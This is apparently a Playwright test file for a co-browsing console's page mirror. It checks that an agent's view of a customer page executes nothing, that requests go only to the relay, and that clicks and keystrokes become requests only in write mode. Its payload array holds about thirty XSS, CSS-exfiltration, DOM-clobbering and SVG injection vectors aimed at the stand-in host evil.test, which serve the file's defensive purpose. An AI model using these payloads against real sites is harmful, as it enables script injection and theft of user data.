/** Proves that the mirror shows what it is told, that nothing in it acts, and that the agent's hands become requests. */

import { test } from "@playwright/test";
import { expect } from "./fixtures/expect";
import { ConsoleAlone, relayOrigin } from "./fixtures/console-alone";
import { el, PageBody, svg, type Markup } from "./fixtures/page-body";

const address = "http://shop.test/";

/** A page with this in its body, and the numbers of its elements by id. */
function page(...children: Markup[]): [PageBody, Map<string, number>] {
  const body = new PageBody().begin(address);
  const ids = body.document(children);
  return [body, ids];
}

const alarm = "top.alarm('executed')";
const evil = "http://evil.test/";

/** Attacks, as a page's DOM would hold them. */
const payloads: Markup[] = [
  el("script", {}, alarm),
  el("script", { src: `${evil}script.js` }),
  svg("svg", { onload: alarm }, svg("script", {}, alarm), svg("script", { href: `${evil}s.js` })),
  el("img", { src: `${evil}image.png`, onerror: alarm }),
  el("img", { src: "javascript:top.alarm(1)", srcset: `${evil}a 1x, ${evil}b 2x` }),
  el("iframe", { src: `${evil}frame`, srcdoc: `<script>${alarm}</script>` }),
  el("object", { data: `${evil}object` }, el("embed", { src: `${evil}embed` })),
  el("meta", { "http-equiv": "refresh", content: `0;url=${evil}refresh` }),
  el("base", { href: evil, target: "_top" }),
  el("link", { rel: "stylesheet", href: `${evil}sheet.css` }),
  el("link", { rel: "preload", as: "image", href: `${evil}preload`, imagesrcset: `${evil}preload2` }),
  el("link", { rel: "prefetch dns-prefetch preconnect", href: `${evil}prefetch` }),
  el("style", {}, `@import "${evil}import.css"; @font-face { font-family: f; src: u`, `rl(${evil}font) }`),
  el("style", {}, `input[value^=a] { background: url(${evil}leak-a) } p { background: u\\72l(${evil}escaped) }`),
  el("p", { style: `background: url(${evil}style), image-set("${evil}set" 1x); font-family: f` }, "text"),
  el("body", { background: `${evil}background`, onload: alarm }),
  el("table", { background: `${evil}table` }),
  el("video", { src: `${evil}video`, poster: `${evil}poster`, autoplay: "" }, el("source", { src: `${evil}source` })),
  el("audio", { src: `${evil}audio`, autoplay: "", onerror: alarm }),
  el("input", { type: "image", src: `${evil}input`, onerror: alarm, autofocus: "", onfocus: alarm }),
  el("form", { action: `${evil}form`, id: "f" }, el("input", { name: "createElement" }), el("input", { name: "remove" })),
  el("img", { name: "createElement" }),
  el("form", { name: "querySelector", id: "documentElement" }),
  el("details", { open: "", ontoggle: alarm }, el("summary", {}, "open")),
  el("a", { href: "javascript:top.alarm(2)", ping: `${evil}ping` }, "link"),
  el("marquee", { onstart: alarm }, "moving"),
  svg(
    "svg",
    {},
    svg("use", { href: `${evil}use.svg#x` }),
    svg("image", { "xlink:href": `${evil}svg-image` }),
    svg("a", {}, svg("animate", { attributeName: "href", values: "javascript:top.alarm(3)" }), svg("text", {}, "x")),
    svg("rect", { fill: `url(${evil}fill#g)`, filter: `url(${evil}filter#f)` }),
    svg("foreignObject", {}, el("iframe", { src: `${evil}foreign` })),
  ),
  { tag: "math", namespace: 2, attributes: { href: "javascript:top.alarm(4)" }, children: [] },
  el("template", { shadowrootmode: "open" }, el("script", {}, alarm)),
  el("noscript", {}, el("img", { src: `${evil}noscript` })),
  el("portal", { src: `${evil}portal` }),
  { tag: "my-host", attributes: { id: "host" }, shadow: [el("img", { src: `${evil}shadow`, onerror: alarm })] },
];

test("nothing that a page brings along acts in the mirror, and nothing is asked of anyone but the relay", async ({
  page: window,
}) => {
  const alone = await ConsoleAlone.open(window);
  const [body, ids] = page(...payloads, el("p", { id: "last" }, "all is shown"), el("iframe", { id: "framed" }));
  await alone.show(body.complete());
  await alone.sees((document) => Document.prototype.querySelector.call(document, "#last")?.textContent, "all is shown");
  // The same again as changes of an open page.
  const change = new PageBody(1000);
  change.tree(4, 0, [...payloads, el("p", { id: "later" }, "shown too")]);
  change.focus(0);
  alone.change(change);
  await alone.sees(
    (document) => Document.prototype.querySelector.call(document, "#later")?.textContent,
    "shown too",
  );
  // And in a frame of the page's own.
  const framed = new PageBody(5001);
  framed.frame(ids.get("framed") as number, 5000, 0, evil);
  framed.tree(5000, 0, [el("html", {}, el("head"), el("body", {}, ...payloads, el("p", { id: "inside" }, "inside")))], true);
  alone.change(framed);
  await alone.sees((document) => {
    const frame = Document.prototype.querySelector.call(document, "#framed") as HTMLIFrameElement;
    return Document.prototype.querySelector.call(frame.contentDocument, "#inside")?.textContent;
  }, "inside");
  // What a picture or a sheet would have asked for comes before the picture that was asked for last.
  const sentinel = new PageBody(9000);
  sentinel.tree(4, 0, [el("img", { id: "sentinel", src: "sentinel.png" })]);
  alone.change(sentinel);
  await alone.sees(
    (document) =>
      (Document.prototype.querySelector.call(document, "#sentinel") as HTMLImageElement | null)?.naturalWidth,
    1,
  );
  expect(alone.alarms).toEqual([]);
  expect(alone.requests.filter((url) => !url.startsWith(`${relayOrigin}/`) && !url.startsWith("data:"))).toEqual([]);
  expect(alone.requests.filter((url) => url.includes("evil"))).toEqual([]);
  const { tags, frames } = (await alone.mirror((document) => {
    const tags = new Set<string>();
    const frames = new Set<string>();
    const look = (root: Document) => {
      for (const element of Document.prototype.querySelectorAll.call(root, "*")) {
        tags.add(element.localName);
        if (element.localName !== "iframe") continue;
        const names = ["src", "srcdoc", "sandbox", "name"];
        frames.add(names.map((name) => Element.prototype.getAttribute.call(element, name)).join());
        look((element as HTMLIFrameElement).contentDocument as Document);
      }
    };
    look(document);
    return { tags: [...tags], frames: [...frames] };
  })) as { tags: string[]; frames: string[] };
  for (const never of ["script", "object", "embed", "portal", "noscript"]) expect(tags).not.toContain(never);
  // Frames are the console's own: without address, name or scripts.
  expect(frames).toEqual([",,allow-same-origin,"]);
});

test("the mirror shows structure, fields, positions, shadows and rules as it is told", async ({ page: window }) => {
  const alone = await ConsoleAlone.open(window);
  const [body, ids] = page(
    el("link", { rel: "stylesheet", href: "site.css" }),
    el("p", { id: "linked" }, "linked"),
    el("input", { id: "name" }),
    el("input", { id: "secret", type: "password" }),
    el("input", { id: "box", type: "checkbox" }),
    el("select", { id: "many", multiple: "" }, el("option", {}, "a"), el("option", {}, "b"), el("option", {}, "c")),
    el("textarea", { id: "area" }, "default"),
    el("div", { id: "pane", style: "height: 50px; overflow: auto" }, el("div", { style: "height: 900px" })),
    el("style", { id: "sheet" }, "#linked { margin: 1px }"),
    el("dialog", { id: "dialog", open: "" }, "modal"),
    el("canvas", { id: "canvas", width: "120", height: "40" }),
    { tag: "my-host", attributes: { id: "host" }, shadow: [el("b", {}, "shade")] },
  );
  const id = (name: string) => ids.get(name) ?? 0;
  body
    .value(id("name"), "typed")
    .value(id("secret"), "*****")
    .value(id("area"), "other")
    .checked(id("box"), 3)
    .selected(id("many"), 0, 2)
    .scroll(id("pane"), 0, 300)
    .rules(id("sheet"), "#linked { padding: 7px }")
    .adopted(id("host/shadow"), 0, "b { letter-spacing: 3px }")
    .modal(id("dialog"), true)
    .focus(id("name"))
    .mark(id("secret"), 2)
    .complete();
  await alone.show(body);
  await alone.sees((document) => {
    const get = <T extends Element>(name: string) => document.getElementById(name) as unknown as T;
    const shadow = get<HTMLElement>("host").shadowRoot as ShadowRoot;
    const style = (element: Element) => (document.defaultView as Window).getComputedStyle(element);
    return {
      mode: document.compatMode,
      linked: style(get("linked")).color,
      padding: style(get("linked")).padding,
      margin: style(get("linked")).marginLeft,
      name: get<HTMLInputElement>("name").value,
      secret: [get<HTMLInputElement>("secret").type, get<HTMLInputElement>("secret").value],
      box: [get<HTMLInputElement>("box").checked, get<HTMLInputElement>("box").indeterminate],
      many: [...get<HTMLSelectElement>("many").options].map((option) => option.selected),
      area: [get<HTMLTextAreaElement>("area").value, get<HTMLTextAreaElement>("area").defaultValue],
      pane: get<HTMLElement>("pane").scrollTop,
      modal: get<HTMLElement>("dialog").matches(":modal"),
      canvas: [get<HTMLImageElement>("canvas").offsetWidth, get<HTMLImageElement>("canvas").offsetHeight],
      shade: style(shadow.querySelector("b") as Element).letterSpacing,
      focus: document.querySelector("[data-cobrowse-focus]")?.id,
      mark: document.querySelector("[data-cobrowse-mark=masked]")?.id,
    };
  }, {
    mode: "CSS1Compat",
    linked: "rgb(4, 5, 6)",
    padding: "7px",
    margin: "0px",
    name: "typed",
    secret: ["text", "*****"],
    box: [true, true],
    many: [true, false, true],
    area: ["other", "default"],
    pane: 300,
    modal: true,
    canvas: [120, 40],
    shade: "3px",
    focus: "name",
    mark: "secret",
  });
  expect(alone.alarms).toEqual([]);
});

test("a page in quirks mode is shown in quirks mode, and the next one as it wants", async ({ page: window }) => {
  const alone = await ConsoleAlone.open(window);
  for (const [mode, expected] of [[2, "BackCompat"], [0, "CSS1Compat"], [1, "CSS1Compat"]] as const) {
    const body = new PageBody().begin(address, mode);
    body.document([el("p", { id: `mode-${mode}` }, "text")], mode !== 2);
    await alone.show(body.complete());
    await expect
      .poll(() => alone.mirror((document, id) => document.getElementById(id as unknown as string)?.textContent, `mode-${mode}`))
      .toBe("text");
    await alone.sees((document) => document.compatMode, expected);
  }
});

test("pointing sends marks, and only in Write Mode a click, keys and text become requests", async ({ page: window }) => {
  const alone = await ConsoleAlone.open(window);
  const [body, ids] = page(
    el("input", { id: "field" }),
    el("input", { id: "masked" }),
    el("select", { id: "choice" }, el("option", {}, "one"), el("option", {}, "two")),
    el("input", { id: "day", type: "date" }),
  );
  const id = (name: string) => ids.get(name) ?? 0;
  await alone.show(body.mark(id("masked"), 2).complete());
  await alone.click("#field");
  await expect.poll(() => alone.sent.filter(({ header, body: sent }) => header.lane === "presence" && sent[0] === 4).length).toBe(1);
  expect(alone.acts()).toEqual([]);

  await alone.mode("write", 1);
  await alone.click("#field");
  await expect.poll(() => alone.acts().length).toBe(1);
  expect([...(alone.acts()[0]?.subarray(0, 2) ?? [])]).toEqual([2, id("field")]);
  alone.change(new PageBody().focus(id("field")));
  await alone.sees((document) => document.querySelector("[data-cobrowse-focus]")?.id, "field");
  await window.keyboard.type("hé");
  await window.keyboard.press("Enter");
  await expect.poll(() => alone.acts().length).toBe(4);
  expect(alone.acts()[1]?.toString().slice(2)).toBe("\u0001h");
  expect(alone.acts()[2]?.toString().slice(2)).toBe("\u0002é");
  expect(alone.acts()[3]?.toString()).toContain("Enter");

  await alone.click("#masked");
  await expect(window.locator(".toast")).toHaveText("Only the customer can edit this field.");
  await alone.click("#choice");
  await window.getByRole("option", { name: "two" }).click();
  await expect.poll(() => alone.acts().length).toBe(5);
  expect([...(alone.acts()[4] ?? [])]).toEqual([5, id("choice"), 1, 1]);
  await alone.click("#day");
  await window.getByLabel("Value", { exact: true }).fill("2031-05-04");
  await window.getByRole("button", { name: "Set" }).click();
  await expect.poll(() => alone.acts().length).toBe(6);
  expect(alone.acts()[5]?.toString()).toContain("2031-05-04");
  expect(alone.alarms).toEqual([]);
});

test("what is typed after a Tab goes to the field that the Tab leads to", async ({ page: window }) => {
  const alone = await ConsoleAlone.open(window);
  const [body, ids] = page(el("input", { id: "first" }), el("input", { id: "second" }));
  await alone.show(body.complete());
  await alone.mode("write", 1);
  await alone.click("#first");
  await window.keyboard.type("a");
  await window.keyboard.press("Tab");
  await window.keyboard.type("b");
  await expect.poll(() => alone.acts().length).toBe(4);
  const [, first, , second] = alone.acts();
  expect([...(first?.subarray(0, 2) ?? [])]).toEqual([3, ids.get("first")]);
  // Number 0: what has the focus when it arrives.
  expect(second?.[1]).toBe(0);
});
